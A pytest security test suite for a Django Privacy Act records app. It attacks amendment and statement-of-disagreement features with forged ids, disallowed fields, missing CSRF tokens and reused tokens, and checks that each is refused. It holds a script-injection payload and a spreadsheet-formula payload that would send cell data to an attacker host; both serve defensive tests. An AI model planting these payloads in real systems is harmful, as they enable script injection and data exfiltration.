"""Attacks on amendments of records and statements of disagreement (5 U.S.C.
552a(d)(2)-(4); access_requests.amendments, its admin pages, Gate.amend and Gate.disputes,
and the status page's statement form), tried as every staff role, with forged ids and
values, across the request's own later corrections, and from the public side.

Nine holes found by this attack were fixed (a grant re-checks the request's systems and
matches; only what a record says about the person is amended, never identifiers, access
rights, security logs or retention dates; values checked against the field's length and
the model's own checks; a masked field refused when recorded; no appeal decided over an
undecided amendment; every system's recipients told); their tests now pass."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.test import Client

from access_requests import amendments, workflow
from access_requests.amendments import AmendmentRefused
from access_requests.models import PriorRecipientNotice, PrivacyActRequest, RequestStatus
from access_requests.verification import issue_status_token
from audit.changes import readable_changes
from audit.disagreements import file_statement
from audit.models import ChangeEntry, DisagreementStatement
from customers.models import Person
from orders import models as orders
from retention.rules import bindings
from sorn.constants import Role
from tests.access_requests.test_amendments import amendment_request, disclosure, propose
from tests.attack.forms import form_data
from tests.mailers.factories import MailerAccountFactory, SecurityAccessFactory
from tests.retention.conftest import LONG_AGO, _ach_810, _order_810, person_in

pytestmark = pytest.mark.django_db(databases=["default", "keystore"])

USPS_810 = "usps-810-300"
USPS_820 = "usps-820-100"
MINT = "mint-009"
NOT_OFFICERS = [role for role in Role if role != Role.PRIVACY_OFFICER]


def client_of(user, **kwargs) -> Client:
    client = Client(**kwargs)
    client.force_login(user)
    return client


def base(request) -> str:
    return f"/admin/access_requests/privacyactrequest/{request.pk}"


def denied_and_upheld(officer, person):
    """An amendment request whose one amendment (the person's family name) was denied,
    answered, appealed and the refusal upheld: a statement may now be filed."""
    request = amendment_request(officer, person)
    amendment = propose(request, officer, person, requested="Wrenfield")
    amendments.deny(amendment, actor=officer, reasons="Matches the application.")
    workflow.make(request, "answer", actor=officer)
    workflow.make(request, "appeal", actor=officer)
    workflow.make(request, "decide_appeal", actor=officer, outcome="denied", reason="Upheld.")
    request.refresh_from_db()
    return request, amendment


# Who may decide --------------------------------------------------------------------------


@pytest.mark.parametrize("role", NOT_OFFICERS)
def test_no_other_role_proposes_decides_marks_or_files_through_the_service(
    officer, staff_user, role
):
    """Every role but the privacy officer, straight at the service (past the admin's
    403): propose, grant, deny, mark a notice sent, record a statement by post. Each is
    refused for its role and nothing changes."""
    person = person_in(USPS_810)
    disclosure(person, {"customers.Person": [person.pk]}, "Fulfilment A")
    request = amendment_request(officer, person)
    pending = propose(request, officer, person, field="given_name", requested="Rosa")
    granted = propose(request, officer, person, requested="Wrenfield")
    amendments.grant(granted, actor=officer)
    [notice] = PriorRecipientNotice.objects.filter(amendment=granted)
    user = staff_user(role)
    for attempt in (
        lambda: propose(request, user, person, field="email", requested="r@example.com"),
        lambda: amendments.grant(pending, actor=user),
        lambda: amendments.deny(pending, actor=user, reasons="No."),
        lambda: amendments.mark_notice_sent(notice, actor=user),
        lambda: amendments.file_disagreement(request, "I disagree.", actor=user),
    ):
        with pytest.raises(AmendmentRefused) as refused:
            attempt()
        assert refused.value.code == "role"
    pending.refresh_from_db()
    notice.refresh_from_db()
    assert (pending.decision, notice.sent_at) == ("pending", None)
    assert Person.objects.get(pk=person.pk).given_name == "Rita"
    assert request.amendments.count() == 2


@pytest.mark.parametrize("who", ["fulfillment", "contractor_agent", "superuser", "no_role"])
def test_the_amendment_pages_refuse_everyone_but_the_privacy_officer(
    officer, staff_user, django_user_model, who
):
    """The four amendment pages, GET and POST, as roles the app's own test does not try,
    a superuser without POLICY_SUPERUSER_ROLES and a staff user with no role: 403."""
    person = person_in(USPS_810)
    disclosure(person, {"customers.Person": [person.pk]}, "Fulfilment A")
    request = amendment_request(officer, person)
    amendment = propose(request, officer, person, requested="Wrenfield")
    other = propose(request, officer, person, field="given_name", requested="Rosa")
    amendments.grant(other, actor=officer)
    [notice] = PriorRecipientNotice.objects.filter(amendment=other)
    if who == "superuser":
        user = django_user_model.objects.create_superuser("root", "r@example.com", "x-Pass-1")
    elif who == "no_role":
        user = django_user_model.objects.create_user("nobody", password="x-Pass-1", is_staff=True)
    else:
        user = staff_user(Role(who))
    client = client_of(user)
    for url, data in [
        (f"{base(request)}/amendments/new/", {"system": USPS_810, "record_pk": person.pk}),
        (f"{base(request)}/amendments/{amendment.pk}/", {"action": "grant"}),
        (f"{base(request)}/notices/{notice.pk}/sent/", {}),
        (f"{base(request)}/disagreement/", {"statement": "I disagree."}),
    ]:
        assert client.get(url).status_code in (302, 403)
        assert client.post(url, data).status_code in (302, 403)
    amendment.refresh_from_db()
    notice.refresh_from_db()
    assert (amendment.decision, notice.sent_at) == ("pending", None)
    assert Person.objects.get(pk=person.pk).family_name != "Wrenfield"


def test_another_requests_amendment_or_notice_is_not_reached_through_this_request(officer):
    """An officer's forged ids: request B's address with request A's amendment or notice
    id → 404; A's amendment stays pending, A's notice unsent."""
    person, stranger = person_in(USPS_810), person_in(USPS_810)
    disclosure(person, {"customers.Person": [person.pk]}, "Fulfilment A")
    mine = amendment_request(officer, person)
    theirs = amendment_request(officer, stranger)
    pending = propose(mine, officer, person, field="given_name", requested="Rosa")
    granted = propose(mine, officer, person, requested="Wrenfield")
    amendments.grant(granted, actor=officer)
    [notice] = PriorRecipientNotice.objects.filter(amendment=granted)
    client = client_of(officer)
    assert client.get(f"{base(theirs)}/amendments/{pending.pk}/").status_code == 404
    assert (
        client.post(f"{base(theirs)}/amendments/{pending.pk}/", {"action": "grant"}).status_code
        == 404
    )
    assert client.post(f"{base(theirs)}/notices/{notice.pk}/sent/").status_code == 404
    pending.refresh_from_db()
    notice.refresh_from_db()
    assert (pending.decision, notice.sent_at) == ("pending", None)


# What an amendment may write -------------------------------------------------------------


@pytest.mark.parametrize(
    ("label", "field"),
    [
        ("orders.OfflineOrder", "person"),
        ("orders.OfflineOrder", "person_id"),
        ("orders.ACHRecord", "order"),
        ("customers.Address", "person"),
    ],
)
def test_an_amendment_cannot_repoint_a_record_to_another_person(officer, label, field):
    """Propose `person`/`order` (a foreign key, by name or attname) of the requester's
    own record, to the pk of someone else's: refused as a field no notice publishes."""
    person, stranger = person_in(USPS_810), person_in(USPS_810)
    order = _order_810(person, None)
    records = {
        "orders.OfflineOrder": order,
        "orders.ACHRecord": _ach_810(person, datetime.date(2024, 1, 2)),
        "customers.Address": person.addresses.get(),
    }
    target = {"order": _order_810(stranger, None).pk}.get(field, stranger.pk)
    request = amendment_request(officer, person)
    with pytest.raises(AmendmentRefused) as refused:
        propose(request, officer, records[label], field=field, requested=str(target))
    assert refused.value.code == "field"
    assert not request.amendments.exists()


def test_a_grant_after_the_request_closes_changes_nothing(officer):
    """Propose, close the request, then grant: refused for the request's status."""
    person = person_in(USPS_810)
    request = amendment_request(officer, person)
    amendment = propose(request, officer, person, requested="Wrenfield")
    workflow.make(request, "close", actor=officer, reason="Withdrawn by the requester.")
    with pytest.raises(AmendmentRefused) as refused:
        amendments.grant(amendment, actor=officer)
    assert refused.value.code == "status"
    assert Person.objects.get(pk=person.pk).family_name != "Wrenfield"


def test_a_grant_is_refused_once_the_request_no_longer_asks_about_the_system(officer):
    person = person_in(USPS_810, MINT)
    request = amendment_request(officer, person)
    amendment = propose(request, officer, person, requested="Wrenfield")
    client = client_of(officer)
    url = f"{base(request)}/change/"
    data = form_data(client.get(url), "privacyactrequest_form")
    data["systems"] = [MINT]
    assert client.post(url, data).status_code == 302
    request.refresh_from_db()
    assert request.systems == [MINT]

    client.post(f"{base(request)}/amendments/{amendment.pk}/", {"action": "grant"})
    amendment.refresh_from_db()
    assert amendment.decision == "pending"
    assert Person.objects.get(pk=person.pk).family_name != "Wrenfield"


def test_an_amendment_cannot_move_a_records_retention_anchor(officer):
    [binding] = [b for b in bindings() if b.label == "orders.ACHRecord"]
    assert (binding.period, binding.date_field) == ("P2Y", "debit_date")
    person = person_in(USPS_810)
    ach = _ach_810(person, datetime.date(2025, 6, 2))
    request = amendment_request(officer, person)
    with pytest.raises(AmendmentRefused) as refused:
        propose(request, officer, ach, field="debit_date", requested="2001-01-01")
    assert refused.value.code == "field"
    assert orders.ACHRecord.objects.get(pk=ach.pk).debit_date == datetime.date(2025, 6, 2)


def test_a_value_longer_than_the_field_holds_is_refused(officer):
    person = person_in(USPS_810)
    request = amendment_request(officer, person)
    with pytest.raises(AmendmentRefused) as refused:
        propose(request, officer, person, requested="W" * 150)
    assert refused.value.code == "value"
    assert "at most 100 characters" in refused.value.messages[0]


def test_a_value_taken_by_another_record_is_refused_not_a_server_error(officer):
    """An order number is an identifier: never amended (a requester could take on
    another's); refused when recorded, by the service and by the admin's form, never a
    500 at grant."""
    person = person_in(USPS_810)
    first, second = _order_810(person, None), _order_810(person, None)
    request = amendment_request(officer, person)
    with pytest.raises(AmendmentRefused) as refused:
        propose(request, officer, first, field="order_number", requested=second.order_number)
    assert refused.value.code == "field"
    client = client_of(officer, raise_request_exception=False)
    response = client.post(
        f"{base(request)}/amendments/new/",
        {"system": USPS_810, "target": "orders.OfflineOrder:order_number",
         "record_pk": first.pk, "requested": second.order_number},
    )  # fmt: skip
    assert response.status_code == 200
    assert not request.amendments.exists()


def test_the_review_page_does_not_show_a_card_number_the_officer_reads_masked(officer):
    person = person_in(USPS_810)
    order = _order_810(person, None)
    payment = orders.OfflinePayment.objects.create(
        person=person, order=order, method="card", amount=Decimal("27.20"),
        paid_on=datetime.date(2019, 5, 1), card_number="4111111111111111", card_type="credit",
        card_expiry_month=12, card_expiry_year=2030,
    )  # fmt: skip
    request = amendment_request(officer, person)
    with pytest.raises(AmendmentRefused) as refused:
        propose(request, officer, payment, field="card_number", requested="4000056655665556")
    assert refused.value.code == "field"
    assert not request.amendments.exists()


@pytest.mark.parametrize(
    ("kind", "field", "requested"),
    [
        ("account", "role", "manager"),
        ("access", "access_level", "administer"),
    ],
)
def test_an_amendment_cannot_grant_a_mailer_access_rights(officer, kind, field, requested):
    person = person_in(USPS_820)
    account = MailerAccountFactory(
        person=person, assigned_on=LONG_AGO, closed_on=datetime.date(2020, 1, 1)
    )
    records = {
        "account": account,
        "access": SecurityAccessFactory(account=account, person=person, granted_on=LONG_AGO),
    }
    request = amendment_request(officer, person, systems=(USPS_820,))
    with pytest.raises(AmendmentRefused) as refused:
        propose(request, officer, records[kind], field=field, requested=requested, system=USPS_820)
    assert refused.value.code == "field"


@pytest.mark.parametrize(
    ("field", "requested"), [("logon_id", "taken01"), ("closed_on", "2000-01-01")]
)
def test_a_value_the_models_own_checks_refuse_is_refused_at_grant(officer, field, requested):
    person = person_in(USPS_820)
    MailerAccountFactory(person=person_in(USPS_820), logon_id="taken01")
    account = MailerAccountFactory(person=person, assigned_on=LONG_AGO)
    request = amendment_request(officer, person, systems=(USPS_820,))
    # Logon IDs and an account's dates are the agency's identifiers and retention dates:
    # never amended, so the model's own checks are never reached by a grant.
    with pytest.raises(AmendmentRefused) as refused:
        propose(request, officer, account, field=field, requested=requested, system=USPS_820)
    assert refused.value.code == "field"


def test_a_grant_on_any_record_is_a_change_entry_naming_the_officer_and_request(officer):
    """A grant on an address (not the person row the app's test tries): one change entry,
    the officer as actor, the request as purpose, the old and new street."""
    person = person_in(USPS_810)
    address = person.addresses.get()
    old = address.line1
    request = amendment_request(officer, person)
    amendment = propose(request, officer, address, field="line1", requested="2 New Street")
    before = ChangeEntry.objects.count()
    amendments.grant(amendment, actor=officer)
    assert ChangeEntry.objects.count() == before + 1
    entry = ChangeEntry.objects.latest("pk")
    assert (entry.actor, entry.object_pk) == (officer, str(address.pk))
    assert entry.additional_data["purpose"] == f"Privacy Act request {request.tracking_number}"
    assert readable_changes(entry)["line1"] == [old, "2 New Street"]


def test_an_appeal_is_not_decided_over_a_pending_amendment(officer):
    person = person_in(USPS_810)
    request = amendment_request(officer, person)
    amendment = propose(request, officer, person, requested="Wrenfield")
    PrivacyActRequest.objects.filter(pk=request.pk).update(due_on=datetime.date(2020, 1, 2))
    request.refresh_from_db()
    workflow.make(request, "appeal", actor=officer)
    with pytest.raises(workflow.MoveRefused):
        workflow.make(request, "decide_appeal", actor=officer, outcome="granted", reason="Yes.")
    amendment.refresh_from_db()
    assert amendment.decision == "pending"


def test_record_and_amendment_numbers_past_the_databases_integers_are_refused(officer):
    """A record number of 2**70 in the proposal, and an amendment id of 2**70 in the
    review page's address: a form error and a 404, never a server error."""
    person = person_in(USPS_810)
    request = amendment_request(officer, person)
    client = client_of(officer, raise_request_exception=False)
    huge = str(2**70)
    page = client.post(
        f"{base(request)}/amendments/new/",
        {
            "system": USPS_810,
            "target": "customers.Person:family_name",
            "record_pk": huge,
            "requested": "Wrenfield",
        },
    )
    assert page.status_code == 200
    assert "is not a record of a person confirmed as the requester" in page.content.decode()
    assert client.get(f"{base(request)}/amendments/{huge}/").status_code == 404
    assert client.post(f"{base(request)}/notices/{huge}/sent/").status_code == 404
    assert not request.amendments.exists()


def test_a_correction_of_a_shared_row_lists_every_system_that_disclosed_it(officer):
    person = person_in(USPS_810, MINT)
    disclosure(person, {"customers.Person": [person.pk]}, "USPS partner")
    disclosure(person, {"customers.Person": [person.pk]}, "Mint partner", system=MINT)
    request = amendment_request(officer, person)
    amendment = propose(request, officer, person, requested="Wrenfield")
    amendments.grant(amendment, actor=officer)
    assert sorted(amendment.notices.values_list("recipient_name", flat=True)) == [
        "Mint partner",
        "USPS partner",
    ]


# What a value or a statement may smuggle -------------------------------------------------


def test_markup_in_a_requested_value_and_a_statement_is_escaped(officer, staff_user):
    """<script> as the requested family name (field.clean accepts it) and as the
    statement: the review page, the person view and the record's change form show it
    escaped."""
    person = person_in(USPS_810)
    request = amendment_request(officer, person)
    script = "<script>alert(1)</script>"
    amendment = propose(request, officer, person, requested=script)
    file_statement(
        person, "family_name", script, system=USPS_810,
        request_number=request.tracking_number, recorded_by="the requester",
    )  # fmt: skip
    client = client_of(officer)
    for url in (
        f"{base(request)}/amendments/{amendment.pk}/",
        f"/staff/people/{person.pk}/records/",
        f"/admin/customers/person/{person.pk}/change/",
    ):
        text = client.get(url).content.decode()
        assert script not in text
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text


def test_a_statement_cannot_be_a_spreadsheet_formula_in_an_export(officer, staff_user):
    """A statement that is a formula (=HYPERLINK...): its CSV cell starts with the
    disputed field's name, never with the formula."""
    person = person_in(USPS_810)
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    file_statement(
        person, "family_name", formula, system=USPS_810,
        request_number="PA-0000000001", recorded_by="the requester",
    )  # fmt: skip
    response = client_of(staff_user(Role.CUSTOMER_SERVICE)).post(
        "/admin/customers/person/", {"action": "export_csv", "_selected_action": [person.pk]}
    )
    header, row = csv.reader(io.StringIO(response.content.decode()))
    cell = row[header.index("statements_of_disagreement")]
    assert cell[0] not in "=+-@\t\r"
    assert cell.endswith(formula)


# Statement words to a role that does not read the field in clear --------------------------


@pytest.mark.parametrize("role", [Role.RECORDS_OFFICER, Role.AUDITOR])
def test_the_words_do_not_reach_a_masked_reader_through_the_api_or_an_export(staff_user, role):
    """A statement on the family name, read by roles that see names masked, through the
    API detail and list and the CSV export: the statement is noted, its words never."""
    person = person_in(USPS_810)
    words = "My family name is Wrenfield, as on my passport."
    file_statement(
        person, "family_name", words, system=USPS_810,
        request_number="PA-0000000001", recorded_by="the requester",
    )  # fmt: skip
    client = client_of(staff_user(role))
    for url in (f"/api/v1/customers/{person.pk}/", "/api/v1/customers/"):
        response = client.get(url)
        assert words not in response.content.decode()
        assert "Wrenfield" not in response.content.decode()
    export = client.post(
        "/admin/customers/person/", {"action": "export_csv", "_selected_action": [person.pk]}
    )
    assert "Wrenfield" not in export.content.decode()


def test_the_words_of_a_statement_on_a_hidden_field_do_not_reach_its_row(staff_user):
    """A statement on the date of birth (hidden from fulfillment and customer service
    reads it masked), on the person view and the change form: no words."""
    person = person_in(USPS_810)
    words = "I was born on 3 March 1970, not 1907."
    file_statement(
        person, "date_of_birth", words, system=USPS_810,
        request_number="PA-0000000001", recorded_by="the requester",
    )  # fmt: skip
    for role in (Role.FULFILLMENT, Role.CUSTOMER_SERVICE):
        client = client_of(staff_user(role))
        for url in (
            f"/staff/people/{person.pk}/records/",
            f"/admin/customers/person/{person.pk}/change/",
            f"/api/v1/customers/{person.pk}/",
        ):
            response = client.get(url)
            assert "1970" not in response.content.decode()


def test_the_words_on_an_inline_row_follow_the_inline_rows_rights(staff_user):
    """A statement on an address line, on the person's change form (the address an
    inline row): customer service (address: write) reads the words; the records officer
    and the auditor (address: masked) see only that one is on file."""
    person = person_in(USPS_810)
    address = person.addresses.get()
    words = "I moved from this street in 2019; it is not my address."
    file_statement(
        address, "line1", words, system=USPS_810,
        request_number="PA-0000000001", recorded_by="the requester",
    )  # fmt: skip
    shown = {}
    for role in (Role.CUSTOMER_SERVICE, Role.RECORDS_OFFICER, Role.AUDITOR):
        page = client_of(staff_user(role)).get(f"/admin/customers/person/{person.pk}/change/")
        text = page.content.decode()
        shown[role] = (words in text, "Statement of disagreement on file" in text)
    assert shown == {
        Role.CUSTOMER_SERVICE: (True, True),
        Role.RECORDS_OFFICER: (False, True),
        Role.AUDITOR: (False, True),
    }


# The public side -------------------------------------------------------------------------


def test_a_statement_without_the_pages_csrf_token_is_refused(officer):
    """A cross-site form posting to the status page's statement address (the token in the
    URL leaked, the browser's cookies along): 403 without the CSRF token, nothing stored."""
    person = person_in(USPS_810)
    request, _ = denied_and_upheld(officer, person)
    token = issue_status_token(request)
    client = Client(enforce_csrf_checks=True)
    response = client.post(
        f"/privacy/requests/status/{token}/disagreement/", {"statement": "Forged."}
    )
    assert response.status_code == 403
    assert not DisagreementStatement.objects.exists()


def test_one_requests_token_files_nothing_on_another_request(officer):
    """Two upheld refusals; the first's status token, its own statement filed, is used
    again with a forged body: the second request gets nothing, and the first nothing
    more. A wrong token is the same 404 as an unknown one."""
    mine, _ = denied_and_upheld(officer, person_in(USPS_810))
    theirs, _ = denied_and_upheld(officer, person_in(USPS_810))
    token = issue_status_token(mine)
    client = Client()
    assert (
        client.post(
            f"/privacy/requests/status/{token}/disagreement/", {"statement": "Mine."}
        ).status_code
        == 302
    )
    again = client.post(
        f"/privacy/requests/status/{token}/disagreement/",
        {"statement": "Theirs.", "request": theirs.pk, "request_number": theirs.tracking_number},
    )
    assert again.status_code == 400
    wrong = client.post(f"/privacy/requests/status/{token[:-1]}x/disagreement/", {"statement": "X"})
    assert wrong.status_code == 404
    assert list(DisagreementStatement.objects.values_list("request_number", flat=True)) == [
        mine.tracking_number
    ]


def test_a_statement_on_a_closed_access_request_is_refused(officer):
    """The status page of an access request (never an amendment), closed: a statement
    POSTed anyway is refused (400), nothing stored."""
    person = person_in(USPS_810)
    request = amendment_request(officer, person)
    workflow.make(request, "close", actor=officer, reason="Answered.")
    PrivacyActRequest.objects.filter(pk=request.pk).update(kind="access", appeal_outcome="denied")
    request.refresh_from_db()
    assert request.status == RequestStatus.CLOSED
    token = issue_status_token(request)
    response = Client().post(
        f"/privacy/requests/status/{token}/disagreement/", {"statement": "I disagree."}
    )
    assert response.status_code == 400
    assert not DisagreementStatement.objects.exists()
